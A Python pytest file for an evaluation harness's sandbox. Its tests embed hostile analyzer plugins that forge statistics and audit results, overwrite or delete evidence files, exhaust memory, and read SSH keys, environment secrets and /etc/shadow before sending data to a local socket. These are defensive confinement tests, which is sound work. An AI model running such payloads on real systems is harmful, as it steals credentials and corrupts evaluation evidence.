"""Hostile analyzers, played for real: nothing they do reaches the orchestrator, the evidence or the host.

Each attack is an analyzer file in a workspace-style `analyzers/` folder next
to the built-ins; `diagnose` must finish, report the attacker as an analyzer
error where it failed, and leave statistics, audits, files and secrets alone.
"""

from __future__ import annotations

import json
import os
import socket
import threading
from pathlib import Path

import pytest

from evo import confine
from evo.harness import stats
from evo.harness.diagnose import diagnose
from evo.resources import resource_dir

BUILTINS = resource_dir("analyzers")
LIMITS = {"harness": {"analyzer_timeout_s": 5, "analyzer_memory_mb": 768}}

needs_jail = pytest.mark.skipif(not confine.available(), reason="bubblewrap cannot build a jail on this machine")


@pytest.fixture
def run(art, tmp_path):
    return art.write_run(tmp_path / "run", rollouts_t=art.rollouts(), eval_t=art.eval_table({"t1": [1, 0], "t2": [0, 0]}),
                         metrics=[{"step": 0, "reward/mean": 0.5}])


def _ws(tmp_path, name, source):
    folder = tmp_path / "analyzers"
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(source)
    return folder


def _errors(diag):
    return {f["evidence"]["values"]["analyzer"]: f["evidence"]["values"]["error"]
            for f in diag["findings"] if f["id"] == "harness.analyzer_error"}


def _snapshot(folder: Path) -> dict:
    return {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file() and not p.name.startswith("diagnosis")}


def test_an_analyzer_cannot_patch_the_statistics_or_the_loader(tmp_path, run):
    ws = _ws(tmp_path, "sabotage.py", """
from evo.harness import stats, loader, compare
stats.paired_bootstrap = lambda *a, **k: {"delta": 0.5, "ci_low": 0.4, "ci_high": 0.6, "n_tasks": 99, "B": 1, "seed": 0, "per_stratum": {}}
compare.paired_comparison = lambda *a, **k: {"outcome": "improvement"}
loader.check_output = lambda out, result: result
LAYER = "score"
def analyze(ctx):
    return {"metrics": {"score/forged": 1.0}, "findings": []}
""")
    original = stats.paired_bootstrap
    diag = diagnose(run, recipe={}, analyzer_dirs=[BUILTINS, ws], settings=LIMITS)
    assert stats.paired_bootstrap is original
    boot = stats.paired_bootstrap([1.0, 0.0, 1.0, 0.0, 1.0], [1.0, 0.0, 1.0, 0.0, 1.0], B=200)
    assert boot["delta"] == 0.0 and boot["ci_low"] == 0.0
    assert diag["metrics"]["score/forged"] == 1.0, "its own result still counts, validated"
    assert {Path(r["path"]).stem for r in diag["analyzers"]} >= {"sabotage", "avg_at_k", "audit_leakage"}


def test_an_analyzer_cannot_forge_another_analyzers_result_or_an_audit(tmp_path, run):
    forged = {"result": {"file": "audit_leakage", "name": "audit_leakage", "layer": "version", "audit": True,
                         "status": "ok", "output": {"metrics": {}, "findings": [], "vetoes": []}}}
    ws = _ws(tmp_path, "forger.py", f"""
import json, os, sys
LAYER = "signal"
def analyze(ctx):
    line = json.dumps({forged!r}) + "\\n"
    print(line)                       # stdout is stderr in the worker
    for fd in range(3, 64):           # any channel it can find
        try:
            os.write(fd, line.encode())
        except OSError:
            pass
    return {{"metrics": {{}}, "findings": []}}
""")
    ws2 = _ws(tmp_path, "audit_always.py", "LAYER = 'version'\nAUDIT = True\ndef analyze(ctx):\n"
              "    return {'metrics': {}, 'findings': [], 'vetoes': [{'message': 'new audits may add vetoes'}]}\n")
    diag = diagnose(run, recipe={}, analyzer_dirs=[BUILTINS, ws, ws2], settings=LIMITS)
    stems = [Path(r["path"]).stem for r in diag["analyzers"]]
    assert stems.count("audit_leakage") == 1
    assert "leakage" in diag["audits"]["ran"] and diag["audits"]["vetoed"]
    assert [v["audit"] for v in diag["audits"]["vetoes"]] == ["audit_always"]


def test_a_workspace_cannot_replace_a_builtin_audit(tmp_path, run):
    ws = _ws(tmp_path, "audit_leakage.py", "LAYER = 'version'\nAUDIT = True\ndef analyze(ctx):\n    return {'metrics': {}, 'findings': []}\n")
    diag = diagnose(run, recipe={}, analyzer_dirs=[BUILTINS, ws], settings=LIMITS)
    refused = [f for f in diag["findings"] if f["id"] == "harness.audit_override_refused"]
    assert refused and "audit_leakage" in refused[0]["message"]
    ran = next(r for r in diag["analyzers"] if Path(r["path"]).stem == "audit_leakage")
    assert Path(ran["path"]).parent == BUILTINS.resolve()


@needs_jail
def test_an_analyzer_cannot_change_the_evidence_or_any_file(tmp_path, run):
    outside = tmp_path / "outside.txt"
    outside.write_text("untouched")
    ws = _ws(tmp_path, "vandal.py", f"""
import os, pathlib
LAYER = "behavior"
def analyze(ctx):
    hits = []
    for target in [ctx.run_dir / "rollouts.parquet", ctx.run_dir / "eval.parquet", ctx.run_dir / "diagnosis.json",
                   pathlib.Path({str(outside)!r}), pathlib.Path({str(BUILTINS / 'audit_leakage.py')!r})]:
        try:
            target.write_bytes(b"zeroed")
            hits.append(str(target))
        except OSError:
            pass
        try:
            os.remove(target)
            hits.append("removed " + str(target))
        except OSError:
            pass
    return {{"metrics": {{"behavior/vandal_hits": len(hits)}}, "findings": []}}
""")
    before = _snapshot(run)
    audit_src = (BUILTINS / "audit_leakage.py").read_bytes()
    diag = diagnose(run, recipe={}, analyzer_dirs=[BUILTINS, ws], settings=LIMITS)
    assert diag["metrics"]["behavior/vandal_hits"] == 0
    assert _snapshot(run) == before and outside.read_text() == "untouched"
    assert (BUILTINS / "audit_leakage.py").read_bytes() == audit_src


def test_a_looping_analyzer_is_stopped_and_the_rest_still_run(tmp_path, run):
    ws = _ws(tmp_path, "aaa_loop.py", "LAYER = 'score'\ndef analyze(ctx):\n    while True:\n        pass\n")
    _ws(tmp_path, "zzz_after.py", "LAYER = 'score'\ndef analyze(ctx):\n    return {'metrics': {'score/after': 1}, 'findings': []}\n")
    diag = diagnose(run, recipe={}, analyzer_dirs=[BUILTINS, ws], settings=LIMITS)
    assert "timed out after 5 s" in _errors(diag)["aaa_loop"]
    assert diag["metrics"]["score/after"] == 1


def test_an_exiting_analyzer_is_reported_and_the_rest_still_run(tmp_path, run):
    ws = _ws(tmp_path, "aaa_exit.py", "import os\nLAYER = 'score'\ndef analyze(ctx):\n    os._exit(0)\n")
    _ws(tmp_path, "zzz_after.py", "LAYER = 'score'\ndef analyze(ctx):\n    return {'metrics': {'score/after': 1}, 'findings': []}\n")
    diag = diagnose(run, recipe={}, analyzer_dirs=[BUILTINS, ws], settings=LIMITS)
    assert "exited (code 0) before it returned" in _errors(diag)["aaa_exit"]
    assert diag["metrics"]["score/after"] == 1


def test_an_analyzer_that_eats_memory_page_by_page_hits_its_cap(tmp_path, run):
    ws = _ws(tmp_path, "hog.py", """
LAYER = "signal"
def analyze(ctx):
    pages = []
    while True:
        pages.append(bytearray(4096) * 256)   # 1 MiB at a time, touched
""")
    diag = diagnose(run, recipe={}, analyzer_dirs=[BUILTINS, ws], settings=LIMITS)
    assert "MemoryError" in _errors(diag)["hog"]


@needs_jail
def test_an_analyzer_sees_no_secret_and_no_network(tmp_path, run, monkeypatch):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("PRIVATE-KEY-MARKER")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("EVO_TEST_API_KEY", "SECRET-ENV-MARKER")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    port = server.getsockname()[1]
    accepted = []
    threading.Thread(target=lambda: accepted.append(server.accept()), daemon=True).start()
    ws = _ws(tmp_path, "spy.py", f"""
import os, pathlib, socket
LAYER = "behavior"
def analyze(ctx):
    loot = [repr(dict(os.environ))]
    for p in ["~/.ssh/id_rsa", {str(home / '.ssh' / 'id_rsa')!r}, "/etc/shadow", "/root/.bash_history"]:
        try:
            loot.append(pathlib.Path(os.path.expanduser(p)).read_text())
        except OSError as exc:
            loot.append(type(exc).__name__)
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"exfiltrated")
        loot.append("NETWORK-REACHED")
    except OSError:
        pass
    return {{"metrics": {{}}, "findings": [{{"id": "behavior.loot", "severity": "info", "message": " | ".join(loot)[:3000]}}]}}
""")
    diag = diagnose(run, recipe={}, analyzer_dirs=[BUILTINS, ws], settings=LIMITS)
    server.close()
    text = json.dumps(diag) + (run / "diagnosis.md").read_text()
    assert "behavior.loot" in text, "the analyzer ran"
    for marker in ("PRIVATE-KEY-MARKER", "SECRET-ENV-MARKER", "NETWORK-REACHED", "root:"):
        assert marker not in text, marker
    assert not accepted
    assert os.environ["EVO_TEST_API_KEY"] == "SECRET-ENV-MARKER"
